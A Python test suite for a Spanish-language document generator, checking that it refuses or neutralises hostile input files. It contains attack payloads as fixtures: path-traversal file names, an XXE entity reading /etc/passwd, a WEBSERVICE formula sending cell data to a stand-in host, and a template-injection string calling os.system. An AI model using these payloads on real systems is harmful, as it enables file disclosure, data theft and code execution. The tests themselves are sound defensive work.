"""Library guarantees the hostile-input corpus (issue 9) relies on, tested at their own level:
file names that fit every file system, inputs never opened after a refusal, messages that
say what a file is."""

from __future__ import annotations

import io
import os
import re
import shutil
import zipfile
from pathlib import Path

import pytest

from generator.errors import UnreadableInput
from generator.fsutil import MAX_NAME_BYTES, atomic_write_bytes, fit_name, safe_filename, temp_path_for
from generator.pipeline.inbox import run_pass
from generator.pipeline.process import Outcome
from generator.readers.safety import check_office_file

from .conftest import EXAMPLES, make_installation, make_settings

INBOX_CONFIG = "[bandeja]\nestabilidad_segundos = 0\n\n[pdf]\nactivar = false\n"
WINDOWS_RESERVED = re.compile(r"^(CON|PRN|AUX|NUL|COM[1-9]|LPT[1-9])(\..*)?$", re.IGNORECASE)


def valid_everywhere(name: str) -> bool:
    """A file name Windows and Linux both accept, that stays in its folder."""
    return (
        0 < len(name.encode("utf-8")) <= MAX_NAME_BYTES
        and not re.search(r'[<>:"/\\|?*\x00-\x1f]', name)
        and not name.endswith((" ", "."))
        and name not in (".", "..")
        and not WINDOWS_RESERVED.match(name)
    )


@pytest.mark.parametrize(
    "text",
    ["../../etc/passwd", "..\\..\\Windows\\win.ini", "CON", "nul.txt", "LPT1", "a/b\\c:d*e?f\"g<h>i|j",
     "Rosa \u202eodanac\u202c Ríos", "Ana\u200bMaría", " . ", "Pérez & Hijos <SAC>", "x" * 300,
     "ñ" * 300, "🦙" * 300, "Profesora 👩‍🏫 del Perú 🇵🇪 " * 20],
)
def test_safe_filename_is_valid_on_windows_and_linux_and_fits_in_255_bytes(text):
    stem = safe_filename(f"ACTA N° 001-2026-CE-UGEL02 {text}", max_length=120)
    assert valid_everywhere(stem + ".docx"), stem
    assert len(stem.encode("utf-8")) <= 120
    assert valid_everywhere(safe_filename(text)), text


def test_a_long_name_of_accents_or_emoji_is_cut_by_bytes_without_breaking_a_character():
    assert safe_filename("ñ" * 100, max_length=120) == "ñ" * 60
    assert safe_filename("🦙" * 100, max_length=120) == "🦙" * 30
    assert safe_filename("Lucía Ñañez", max_length=120) == "Lucía Ñañez"  # short names are untouched


def test_temporary_names_fit_even_for_the_longest_target(tmp_path):
    target = tmp_path / (("ñ" * 125) + ".docx")  # 255 bytes: the longest name Linux takes
    temp = temp_path_for(target)
    assert temp.parent == tmp_path and temp.suffix == ".docx"
    assert len(temp.name.encode("utf-8")) <= MAX_NAME_BYTES
    atomic_write_bytes(target, b"contenido")
    assert target.read_bytes() == b"contenido"
    assert [path.name for path in tmp_path.iterdir()] == [target.name]


def test_fit_name_keeps_the_extension_and_leaves_short_names_alone():
    assert fit_name("comite.xlsx", reserve=22) == "comite.xlsx"
    fitted = fit_name(("ñ" * 120) + ".xlsx", reserve=22)
    assert fitted.endswith(".xlsx") and len(fitted.encode("utf-8")) + 22 <= MAX_NAME_BYTES


def test_a_dropped_file_with_the_longest_possible_name_is_put_away_with_its_notes(tmp_path):
    """A 245-byte name is valid, but «<name>.observado.xlsx» would not be: the pass crashed."""
    office = make_settings(tmp_path, INBOX_CONFIG)
    name = ("ñ" * 120) + ".xlsx"
    office.inbox.mkdir(parents=True)
    data = (EXAMPLES / "comite.xlsx").read_bytes()
    broken = _with_member_dni(data, "4012345")
    (office.inbox / name).write_bytes(broken)
    (result,) = run_pass(office, pdf=False).results
    assert result.outcome is Outcome.OBSERVED
    assert result.destination.read_bytes() == broken  # the original, byte for byte
    assert result.destination.suffix == ".xlsx"
    for path in (result.destination, result.note, result.marked_copy):
        assert path.exists() and len(path.name.encode("utf-8")) <= MAX_NAME_BYTES
    leame = result.note.read_text(encoding="utf-8")
    assert f"CDDGEN NO PROCESÓ «{name}»" in leame  # the full name as dropped
    assert list(office.inbox.glob("*.xlsx")) == []


def _with_member_dni(data: bytes, dni: str) -> bytes:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(data))
    workbook["Integrantes"]["E2"] = dni
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


# ---------------------------------------------------------------------------- refused files stay unopened


def _macro_workbook(path: Path) -> Path:
    with zipfile.ZipFile(EXAMPLES / "comite.xlsx") as source, zipfile.ZipFile(path, "w") as target:
        for entry in source.infolist():
            target.writestr(entry, source.read(entry))
        target.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 60)
    return path


def test_a_refused_workbook_gets_no_marked_copy_and_is_never_opened(tmp_path, monkeypatch):
    """The marked copy of an observed workbook loads it whole: never one refused unopened."""
    import openpyxl

    from generator.render import marked

    office = make_settings(tmp_path, INBOX_CONFIG)
    office.inbox.mkdir(parents=True)
    _macro_workbook(office.inbox / "comite.xlsx")

    def refuse(*args, **kwargs):
        raise AssertionError("a refused workbook reached openpyxl")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)
    monkeypatch.setattr(marked, "load_workbook", refuse)
    (result,) = run_pass(office, pdf=False).results
    assert result.outcome is Outcome.OBSERVED and result.marked_copy is None
    assert "contiene macros" in result.note.read_text(encoding="utf-8")


def test_no_marked_copy_for_a_workbook_too_large_to_load_whole(tmp_path, monkeypatch):
    from generator.render import marked

    source = tmp_path / "comite.xlsx"
    shutil.copy(EXAMPLES / "comite.xlsx", source)
    monkeypatch.setattr(marked, "MAX_SHEETS_BYTES", 1000)
    assert marked.write_marked_copy(source, (), tmp_path / "copia.xlsx") is None
    assert not (tmp_path / "copia.xlsx").exists()


# ---------------------------------------------------------------------------- what a file is


def test_an_encrypted_workbook_is_called_password_protected(tmp_path):
    """An Office file with a password is an OLE2 container with an «EncryptedPackage» stream."""
    path = tmp_path / "comite.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 200
                     + "EncryptedPackage".encode("utf-16-le") + b"\0" * 100)
    with pytest.raises(UnreadableInput) as error:
        check_office_file(path, "xlsx")
    assert "comite.xlsx: está protegido con contraseña (cifrado); cddgen no puede leerlo." in str(error.value)
    assert "Proteger libro › Cifrar con contraseña" in str(error.value)


@pytest.mark.parametrize(("stream", "expected", "message"), [
    ("Workbook", "xlsx", "no es un libro de Excel (.xlsx): es un libro de Excel antiguo (.xls)."),
    ("WordDocument", "docx", "no es un documento de Word (.docx): es un documento de Word antiguo (.doc)."),
])
def test_an_old_office_file_is_named_for_what_it_is(tmp_path, stream, expected, message):
    path = tmp_path / f"formulario.{expected}"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 200 + stream.encode("utf-16-le") + b"\0" * 100)
    with pytest.raises(UnreadableInput, match=re.escape(message)):
        check_office_file(path, expected)


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/worksheets/sheet2.xml", "docProps/core.xml",
                                  "[Content_Types].xml"])
def test_xml_with_a_dtd_is_refused_before_any_parser(tmp_path, part):
    """External entities and «billion laughs» need a DTD; Office never writes one."""
    path = tmp_path / "comite.xlsx"
    with zipfile.ZipFile(EXAMPLES / "comite.xlsx") as source, zipfile.ZipFile(path, "w") as target:
        for entry in source.infolist():
            data = source.read(entry)
            if entry.filename == part:
                text = data.decode("utf-8")
                head, _, body = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
                data = ((head + "?>" if head else "") + "<!-- nada -->"
                        + '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + body).encode("utf-8")
            target.writestr(entry, data)
    with pytest.raises(UnreadableInput, match="contiene declaraciones XML \\(DTD\\)"):
        check_office_file(path, "xlsx")


def test_broken_xml_inside_a_sound_zip_is_explained_without_python_names(tmp_path, settings):
    from generator.readers.comite import read_committee

    path = tmp_path / "comite.xlsx"
    with zipfile.ZipFile(EXAMPLES / "comite.xlsx") as source, zipfile.ZipFile(path, "w") as target:
        for entry in source.infolist():
            data = source.read(entry)
            target.writestr(entry, data[: len(data) // 2] if entry.filename == "xl/workbook.xml" else data)
    with pytest.raises(UnreadableInput) as error:
        read_committee(path, settings.rules.ascenso, "UGEL")
    assert str(error.value) == ("comite.xlsx: no se pudo leer como libro de Excel: su contenido está dañado. "
                                "Ábralo en Excel o LibreOffice y guárdelo de nuevo como .xlsx.")


# ---------------------------------------------------------------------------- cells that look filled


def test_cells_hidden_by_a_merge_and_formulas_without_a_result_are_explained(tmp_path, settings):
    """Both read as empty, but Excel shows a value: «está vacía» alone would not be the truth."""
    from openpyxl import load_workbook

    from generator.errors import InvalidInput
    from generator.readers.comite import read_committee

    path = tmp_path / "comite.xlsx"
    workbook = load_workbook(EXAMPLES / "comite.xlsx")
    members = workbook["Integrantes"]
    members["D3"] = None
    members.merge_cells("D2:D3")
    members["E4"] = '=TEXT(9876543,"00000000")'  # openpyxl stores no result, as some programs do
    workbook.save(path)
    with pytest.raises(InvalidInput) as error:
        read_committee(path, settings.rules.ascenso, "UGEL")
    messages = [str(issue) for issue in error.value.issues]
    assert ("comite.xlsx, hoja «Integrantes», fila 3, columna «Cargo del puesto»: está vacía: es parte de las "
            "celdas combinadas D2:D3, y solo la primera (D2) guarda el dato. Separe las celdas (Inicio › "
            "Combinar y centrar) y escriba el dato en cada una.") in messages
    assert ("comite.xlsx, hoja «Integrantes», fila 4, columna «DNI»: tiene la fórmula «=TEXT(9876543,\"00000000\")», "
            "pero el archivo no guarda su resultado. Ábralo en Excel o LibreOffice y guárdelo de nuevo (así se "
            "guardan los resultados), o escriba el valor en vez de la fórmula.") in messages


def test_the_marked_copy_marks_a_merge_on_its_first_cell_and_keeps_no_formula(tmp_path):
    """A problem in a merged cell broke the copy (a merged cell takes no comment), and the
    sender's formulas stayed live in a workbook cddgen wrote; the copy now holds values."""
    from openpyxl import load_workbook

    from generator.errors import Issue
    from generator.render.marked import PROBLEM_FILL, write_marked_copy

    source = tmp_path / "comite.xlsx"
    workbook = load_workbook(EXAMPLES / "comite.xlsx")
    members = workbook["Integrantes"]
    members["D3"] = None
    members.merge_cells("D2:D3")
    members["E4"] = '=WEBSERVICE("http://ejemplo.invalid/?"&B2)'
    workbook.save(source)
    issues = [Issue("está vacía.", file=str(source), sheet="Integrantes", row=3, column="Cargo del puesto",
                    cell="D3"),
              Issue("tiene una fórmula.", file=str(source), sheet="Integrantes", row=4, column="DNI", cell="E4")]
    copy = write_marked_copy(source, issues, tmp_path / "comite.observado.xlsx")
    marked = load_workbook(copy)["Integrantes"]
    assert marked["D2"].fill == PROBLEM_FILL and "está vacía." in marked["D2"].comment.text
    assert marked["E4"].fill == PROBLEM_FILL and marked["E4"].data_type != "f" and marked["E4"].value is None
    assert all(cell.data_type != "f" for sheet in load_workbook(copy).worksheets
               for row in sheet.iter_rows() for cell in row)


# ---------------------------------------------------------------------------- a user's template


def test_a_user_template_reaching_python_internals_fails_clearly_from_the_cli(tmp_path, monkeypatch):
    """Templates in ./templates/ are edited by users: the sandbox stops them, the CLI says so in
    Spanish, nothing is written, and the inbox returns the form (not its fault) to retry."""
    from click.testing import CliRunner
    from docx import Document

    from generator.cli import cli

    make_installation(tmp_path)
    monkeypatch.chdir(tmp_path)
    for variable in [key for key in os.environ if key.startswith("CDDGEN_")]:
        monkeypatch.delenv(variable)
    (tmp_path / "templates" / "actas").mkdir(parents=True)
    template = Document()
    template.add_paragraph("{{ numero }} {{ cycler.__init__.__globals__.os.system('touch hecho') }}")
    template.save(tmp_path / "templates" / "actas" / "acta-instalacion.docx")
    result = CliRunner().invoke(cli, ["--fecha", "2026-11-22", "render", "acta-instalacion",
                                      str(EXAMPLES / "comite.xlsx"), "--sin-pdf"])
    assert result.exit_code == 1
    assert result.output == (
        "Error: Plantilla «acta-instalacion.docx»: intenta acceder a partes internas de Python («__init__»), "
        "lo que no está permitido. Las plantillas solo pueden mostrar los datos del documento.\n")
    assert not (tmp_path / "hecho").exists() and not list((tmp_path / "outbox").rglob("*.docx"))
    office = make_settings(tmp_path, INBOX_CONFIG)
    office.inbox.mkdir(parents=True)
    shutil.copy(EXAMPLES / "comite.xlsx", office.inbox / "comite.xlsx")
    (returned,) = run_pass(office, pdf=False).results
    assert returned.outcome is Outcome.FAILED and "partes internas de Python" in returned.reason
    assert (office.inbox / "comite.xlsx").exists()
